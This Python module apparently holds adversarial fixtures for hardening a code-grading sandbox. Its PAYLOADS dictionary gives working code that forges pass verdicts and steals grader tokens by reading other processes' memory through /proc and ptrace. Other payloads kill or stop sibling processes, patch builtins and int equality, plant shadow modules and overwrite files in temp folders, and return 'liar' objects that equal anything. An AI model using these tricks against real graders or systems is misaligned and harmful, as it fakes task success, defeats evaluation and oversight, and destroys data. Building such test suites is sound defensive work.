"""Bodies of `attack()`: each returns an answer, or None after it has forged a verdict or read an expected value."""
# ruff: noqa: E501 - programs are kept as they are

from __future__ import annotations

_LIAR = """
class Meta(type):
    def __eq__(cls, other): return True
    def __instancecheck__(cls, other): return True
    def __hash__(cls): return 0
def yes(self, *args, **kwargs): return True
def me(self, *args, **kwargs): return self
names = 'eq ne lt le gt ge contains bool instancecheck subclasscheck'.split()
same = 'add radd sub rsub mul rmul truediv rtruediv mod rmod pow abs neg round floor and rand or ror xor'.split()
content = {f'__{name}__': yes for name in names} | {f'__{name}__': me for name in same}
content |= {'__hash__': lambda self: 0}
"""

PAYLOADS: dict[str, str] = {
    # -- frames, objects and memory of the own process
    "frames": """
        import inspect
        frames = [sys._getframe()] + list(sys._current_frames().values())
        for frame in frames:
            while frame:
                for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                    hunt(repr(value)[:100000])
                    if isinstance(value, dict) and 'token' in value:
                        TOKENS.append(value['token'])
                report = frame.f_locals.get('report')
                if TOKENS and report is not None:
                    report.write(TOKENS[0].encode()); report.flush(); os._exit(0)
                frame = frame.f_back
        forge()
    """,
    "gc": """
        for value in gc.get_objects():
            try:
                if isinstance(value, dict) and 'token' in value:
                    TOKENS.append(str(value['token']))
                if isinstance(value, (dict, list, str, bytes, tuple)) and len(value) < 10000:
                    hunt(repr(value)[:100000])
            except Exception:
                pass
        for value in gc.get_objects():
            if TOKENS and isinstance(value, io.BufferedRandom):
                value.seek(0); value.write(TOKENS[0].encode()); value.flush()
        forge()
        if TOKENS: os._exit(0)
    """,
    "own-memory": """
        with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
            for line in maps:
                first, last = (int(part, 16) for part in line.split()[0].split('-'))
                if 'rw' in line and last - first < 1 << 26:
                    try:
                        memory.seek(first); hunt(memory.read(last - first))
                    except OSError:
                        pass
        forge()
    """,
    "trace": """
        def trace(frame, event, argument):
            hunt(repr(frame.f_locals)[:100000])
            if 'rest' in frame.f_locals: TOKENS.append(frame.f_locals['rest']['token'])
            if TOKENS: forge()
            return trace
        sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)
        frame = sys._getframe()
        while frame: frame.f_trace = trace; frame = frame.f_back
    """,
    # -- other processes
    "parent-memory": """
        for pid in {os.getppid(), *range(1, 40)} - {os.getpid()}:
            try:
                maps = open(f'/proc/{pid}/maps').read().splitlines()
                memory = open(f'/proc/{pid}/mem', 'rb', 0)
            except OSError:
                continue
            for line in maps:
                first, last = (int(part, 16) for part in line.split()[0].split('-'))
                if 'rw' in line and last - first < 1 << 26:
                    try:
                        memory.seek(first); hunt(memory.read(last - first))
                    except OSError:
                        pass
        forge()
        if TOKENS: os._exit(0)
    """,
    "parent-descriptors": """
        for path in glob.glob('/proc/[0-9]*/fd/*'):
            if f'/{os.getpid()}/' in path: continue
            for mode in (os.O_RDONLY, os.O_WRONLY):
                try:
                    file = os.open(path, mode | os.O_NONBLOCK)
                    if mode == os.O_RDONLY: hunt(os.read(file, 1 << 20))
                    else: os.write(file, b'{"status": "done", "report": "1", "output": "1"}\\n')
                except OSError:
                    pass
        forge()
    """,
    "ptrace": """
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        for pid in {os.getppid(), *range(2, 40)} - {os.getpid()}:
            if libc.ptrace(16, pid, None, None) == 0:
                os.waitpid(pid, 0)
                hunt(open(f'/proc/{pid}/mem', 'rb', 0).read(1))
                libc.ptrace(8, pid, None, None)
                FOUND.append(1)
    """,
    "process-vm": """
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(1 << 20)
        local = struct.pack('=QQ', ctypes.addressof(buffer), 1 << 20)
        for pid in {os.getppid(), *range(2, 40)} - {os.getpid()}:
            for line in open('/proc/self/maps'):
                first = int(line.split('-')[0], 16)
                got = libc.process_vm_readv(pid, local, 1, struct.pack('=QQ', first, 1 << 16), 1, 0)
                if got > 0: hunt(buffer.raw[:got])
        forge()
    """,
    "stop-others": """
        for pid in {os.getppid(), *range(2, 40)} - {os.getpid()}:
            try: os.kill(pid, signal.SIGSTOP)
            except OSError: pass
        forge()
    """,
    "kill-others": """
        forge()
        for number in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM, signal.SIGKILL):
            for pid in {os.getppid(), *range(2, 40)} - {os.getpid()}:
                try: os.kill(pid, number)
                except OSError: pass
        forge()
    """,
    "limits-of-others": """
        import resource
        for pid in {os.getppid(), *range(2, 40)} - {os.getpid()}:
            for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
                try: resource.prlimit(pid, which, (0, 0))
                except (OSError, ValueError): pass
    """,
    # -- exits
    "os-exit": "forge(); os._exit(0)",
    "sys-exit": "sys.exit(0)",
    "exit-in-thread": "threading.Thread(target=lambda: (time.sleep(0.05), os._exit(0))).start()",
    "generator-exit": "raise GeneratorExit",
    "abort": "os.abort()",
    "exec": "os.execv('/bin/true', ['true'])",
    "exit-hooks": """
        import weakref
        atexit.register(forge)
        class Last:
            def __del__(self): forge(); os._exit(0)
        builtins.LAST = Last()
        weakref.finalize(builtins.LAST, forge)
        sys.excepthook = sys.unraisablehook = lambda *_: os._exit(0)
        sys.exitfunc = forge
        raise ValueError
    """,
    # -- processes and threads that keep running
    "survivor": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                end = time.time() + 3
                while time.time() < end:
                    for path in glob.glob('/proc/[0-9]*/fd/*'):
                        try: os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b'1\\n')
                        except OSError: pass
                    forge(); time.sleep(0.01)
            os._exit(0)
    """,
    "surviving-thread": """
        def later():
            while True:
                forge(); time.sleep(0.001)
        threading.Thread(target=later).start()
    """,
    "fork-and-answer": """
        if os.fork():
            os._exit(0)
    """,
    # -- builtins and modules
    "patched-builtins": """
        for name in ('compile', 'exec', 'eval', 'AssertionError', 'Exception', 'BaseException', '__build_class__'):
            setattr(builtins, name, type('Any', (Exception,), {'__new__': lambda *a, **k: None}))
        for name in ('isinstance', 'abs', 'all', 'any', 'len', 'sorted', 'set', 'round', 'type'):
            setattr(builtins, name, lambda *a, **k: True)
    """,
    "patched-json": """
        original = json.loads
        def loads(text, *args, **kwargs):
            hunt(text if isinstance(text, (bytes, str)) else b'')
            return original(text, *args, **kwargs)
        json.loads = json.decoder.JSONDecoder.decode = loads
        json.dumps = lambda value, *a, **k: '1'
        os.write = lambda *a: len(a[1])
        forge()
    """,
    "patched-types": """
        import ctypes
        for kind in (int, float, str):
            table = ctypes.cast(id(kind) + object.__basicsize__, ctypes.POINTER(ctypes.c_void_p))
        class Key(str): pass
        namespace = ctypes.py_object.from_address(id(int.__dict__) + 2 * ctypes.sizeof(ctypes.c_void_p)).value
        namespace['__eq__'] = lambda self, other: True
        ctypes.pythonapi.PyType_Modified(ctypes.py_object(int))
    """,
    "import-hook": """
        class Finder:
            def find_spec(self, name, path=None, target=None):
                forge(); os._exit(0)
        sys.meta_path.insert(0, Finder())
        sys.path_hooks.insert(0, lambda path: Finder())
        for name in ('json', 'math', 'typing', 'socket', 'traceback', 'copy'):
            sys.modules[name] = types.SimpleNamespace(isclose=lambda *a, **k: True)
    """,
    "modules-in-folder": """
        code = 'import os\\nfor n in range(64):\\n try: os.write(n, b\\'{\\"status\\": \\"done\\"}\\\\n\\')\\n except OSError: pass\\nos._exit(0)'
        for name in ('typing', 'math', 'collections', 'json', 'numpy', 'sitecustomize', 'traceback', 'decimal', 'test'):
            for folder in {'.', '/tmp', os.environ.get('HOME', '.')}:
                try: Path(folder, name + '.py').write_text(code)
                except OSError: pass
    """,
    "overwrite-files": """
        for folder in ('.', '/tmp', '/dev/shm', tempfile.gettempdir()):
            for place, _, files in os.walk(folder):
                for name in files:
                    try:
                        hunt(open(os.path.join(place, name), 'rb').read())
                        open(os.path.join(place, name), 'w').write('1')
                    except OSError: pass
        forge()
    """,
    # -- values
    "liar": _LIAR + "\nreturn Meta('Yes', (), content)()",
    "liar-class": _LIAR + "\nreturn Meta('Yes', (), content)",
    **{
        f"liar-{base}": _LIAR + f"\nreturn Meta('Yes', ({base},), content)()"
        for base in ("int", "str", "float", "list", "dict", "tuple", "set", "bytes")
    },
    "liar-named-tuple": _LIAR + "\nreturn Meta('Yes', (collections.namedtuple('P', 'x'),), content)(1)",
    "class-property": _LIAR + "\ncontent['__class__'] = property(lambda self: int)\nreturn Meta('Yes', (), content)()",
    "any-attribute": _LIAR + "\ncontent['__getattr__'] = lambda self, name: self\nreturn Meta('Yes', (), content)()",
    "mock": "from unittest import mock\nreturn mock.ANY",
    "nan": "return float('nan')",
    "infinite": "return float('inf')",
    "everything": "return list(range(100000))",
    "huge-integer": "return 10 ** 100000",
    "deep": "deep = []\nfor _ in range(100000): deep = [deep]\nreturn deep",
    "cycle": "cycle = []\ncycle.append(cycle)\nreturn cycle",
    "endless": "import itertools\nreturn itertools.count()",
    "not-implemented": "return NotImplemented",
    "exception-value": "return AssertionError()",
    "lazy": "return (value for value in iter(int, 1))",
    # -- output, time and signals
    "forged-lines": """
        for text in ('{"status": "done", "report": "1"}', '{"status": "syntax", "status": "done"}', '[]', 'passed', '1'):
            print(text); print(text, file=sys.stderr)
    """,
    "flood": "os.write(1, b'1\\n' * (1 << 20))\nprint('1\\n' * (1 << 20))",
    "alarm": """
        def handler(*_): forge(); os._exit(0)
        for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGSEGV):
            try: signal.signal(number, handler)
            except ValueError: pass
        signal.setitimer(signal.ITIMER_REAL, 0.05)
    """,
    "stop-self": "forge(); os.kill(os.getpid(), signal.SIGSTOP)",
    "sleep": "time.sleep(30)",
    "recursion": "sys.setrecursionlimit(10 ** 9)\nreturn attack()",
    "raise-in-comparison": _LIAR
    + "\ndef stop(self, *_): raise SystemExit(0)\ncontent = {'__eq__': stop, '__hash__': None}"
    + "\nreturn Meta('Yes', (), content)()",
    "raise-assertion": "raise type('AssertionError', (AssertionError,), {'__str__': lambda self: os._exit(0)})()",
}
